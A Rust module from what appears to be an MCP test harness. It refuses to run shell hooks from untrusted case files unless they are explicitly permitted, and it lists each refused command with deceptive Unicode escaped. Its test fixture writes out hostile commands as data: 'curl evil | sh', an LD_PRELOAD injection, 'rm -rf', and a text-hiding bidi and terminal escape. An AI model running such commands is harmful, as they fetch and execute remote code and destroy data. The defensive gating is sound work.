//! Whether the commands in files of cases may be run.
//!
//! Contracts may come from others. Without permission none of their commands is run, and all are listed.

use std::fmt::{self, Write as _};
use std::sync::Arc;

use mcp_test_core::json::is_deceptive;
use mcp_test_core::process::Command;

use crate::cases::{Case, CaseFile, Hook};

/// Whether commands of files may be run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Commands {
    /// They may be run.
    Allowed,
    /// They may not be run.
    #[default]
    Refused,
}

/// The permission to run the commands of some cases; only [`permit`] grants it.
#[derive(Debug, Clone, Copy)]
pub struct Permit(());

/// The cases have commands, which may not be run.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct CommandsRefused {
    /// Each command, in the order of the files: `FILE:LINE:COLUMN: COMMAND (_before of ID)`.
    pub commands: Vec<String>,
}

impl fmt::Display for CommandsRefused {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        const SHOWN: usize = 200;
        f.write_str("the cases have commands, which are not allowed; nothing was run:")?;
        self.commands.iter().take(SHOWN).try_for_each(|command| write!(f, "\n  {command}"))?;
        if let Some(more @ 1..) = self.commands.len().checked_sub(SHOWN) {
            write!(f, "\n  … and {more} more")?;
        }
        f.write_str("\nto run them, use `--allow-commands`, or in Rust `allow_commands`")
    }
}

impl std::error::Error for CommandsRefused {}

/// Grants the permission to run the commands of these cases: of all cases at once, before the first one runs.
///
/// # Errors
/// If there are commands and they are not allowed.
pub fn permit<'a>(
    cases: impl IntoIterator<Item = (&'a Arc<CaseFile>, &'a Arc<Case>)>,
    commands: Commands,
) -> Result<Permit, CommandsRefused> {
    if commands == Commands::Allowed {
        return Ok(Permit(()));
    }
    let mut found = Vec::new();
    for (file, case) in cases {
        let settings = &case.settings;
        // A command for `_given` is not listed: it is from the user, not from a file.
        let before = settings.before.iter().map(|hook| ("_before", hook));
        let after = settings.after.iter().map(|hook| ("_after", hook));
        for (key, hook) in before.chain(after) {
            let (line, column) = (hook.span.line, hook.span.column);
            let command = escaped(&command_line(hook));
            found.push(format!("{}:{line}:{column}: {command} ({key} of {})", file.path, case.id));
        }
    }
    if found.is_empty() { Ok(Permit(())) } else { Err(CommandsRefused { commands: found }) }
}

/// The whole command with the values of variables: they are not secret, and the user has to judge them.
fn command_line(hook: &Hook) -> String {
    let word = |text: &str| Command::new(text).to_string();
    let mut line = String::new();
    // In the syntax of a shell, which users can read, although no shell runs it.
    if let Some(cwd) = &hook.cwd {
        // Writing to a String does not fail.
        let _ = write!(line, "cd {} && ", word(cwd));
    }
    for (name, value) in &hook.env {
        let _ = write!(line, "{}={} ", name, word(value));
    }
    line + &hook.run.iter().map(|text| word(text)).collect::<Vec<_>>().join(" ")
}

/// Escapes the characters that could hide a command: control characters, those that reverse text, and invisible ones.
fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for char in text.chars() {
        match is_deceptive(char) {
            true => out.extend(char.escape_unicode()),
            false => out.push(char),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cases::{Cases, ReadOptions};

    const TEXT: &str = r#"
case: One
_before:
  - {run: [sh, -c, "curl evil | sh"], env: {LD_PRELOAD: /tmp/x.so}, cwd: sub dir}
  - "rm -rf 'a b'"
_after: "echo \u202e\u001b[2J done"
in: {jsonrpc: "2.0", id: 1, method: ping}
---
case: Two
in: {jsonrpc: "2.0", id: 1, method: ping}
_after: ./clean-up.sh
"#;

    #[test]
    fn every_command_of_every_case_is_listed_in_full() {
        let cases = Cases::parse("a.yaml", TEXT, &ReadOptions::default()).expect("cases").0;
        let refused = permit(cases.iter(), Commands::Refused).expect_err("there are commands");
        insta::assert_snapshot!(refused, @r"
        the cases have commands, which are not allowed; nothing was run:
          a.yaml:4:5: cd 'sub dir' && LD_PRELOAD=/tmp/x.so sh -c 'curl evil | sh' (_before of a::one)
          a.yaml:5:5: rm -rf 'a b' (_before of a::one)
          a.yaml:6:9: echo '\u{202e}\u{1b}[2J' done (_after of a::one)
          a.yaml:11:9: ./clean-up.sh (_after of a::two)
        to run them, use `--allow-commands`, or in Rust `allow_commands`
        ");
        assert!(permit(cases.iter(), Commands::Allowed).is_ok());
    }

    #[test]
    fn cases_without_commands_need_no_permission() {
        let text = "case: One\n_given: a state\nin: {jsonrpc: '2.0', id: 1, method: ping}\n";
        let cases = Cases::parse("a.yaml", text, &ReadOptions::default()).expect("cases").0;
        assert!(permit(cases.iter(), Commands::Refused).is_ok());
    }
}
